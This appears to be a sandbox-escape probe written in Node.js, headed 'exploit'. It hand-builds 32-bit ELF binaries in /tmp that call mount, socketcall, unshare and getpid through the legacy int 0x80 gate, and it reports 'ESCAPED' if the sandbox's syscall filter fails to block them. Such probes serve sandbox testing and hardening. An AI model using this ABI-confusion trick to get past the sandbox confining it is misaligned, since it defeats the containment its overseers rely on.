// exploit: runs a program of a 32-bit machine, whose calls go another way into the kernel with numbers of their own
// outcome: finished
// says: ran
const { spawnSync } = require('node:child_process')
const fs = require('node:fs')
if (process.arch === 'x64') {
  // mount, socketcall, unshare and plain getpid by `int 0x80`, then exit 0
  for (const call of [21, 102, 310, 20]) {
    const code = Buffer.from(`b8${Buffer.from([call, 0, 0, 0]).toString('hex')}31db31c931d2cd80b80100000031dbcd80`, 'hex')
    const head = Buffer.alloc(84)
    head.write('\x7fELF\x01\x01\x01', 'latin1')
    head.writeUInt16LE(2, 16)
    head.writeUInt16LE(3, 18)
    head.writeUInt32LE(1, 20)
    head.writeUInt32LE(0x08048000 + 84, 24)
    head.writeUInt32LE(52, 28)
    head.writeUInt16LE(52, 40)
    head.writeUInt16LE(32, 42)
    head.writeUInt16LE(1, 44)
    head.writeUInt32LE(1, 52)
    head.writeUInt32LE(0x08048000, 60)
    head.writeUInt32LE(0x08048000, 64)
    head.writeUInt32LE(84 + code.length, 68)
    head.writeUInt32LE(84 + code.length, 72)
    head.writeUInt32LE(5, 76)
    head.writeUInt32LE(0x1000, 80)
    fs.writeFileSync(`/tmp/old-${call}`, Buffer.concat([head, code]), { mode: 0o755 })
    const { status, signal, error } = spawnSync(`/tmp/old-${call}`)
    if (status === 0 || (signal && !['SIGSYS', 'SIGSEGV'].includes(signal)) || (error && !['ENOEXEC', 'EACCES'].includes(error.code))) console.log('ESCAPED', call, status, signal, error?.code)
  }
}
console.log('ran')
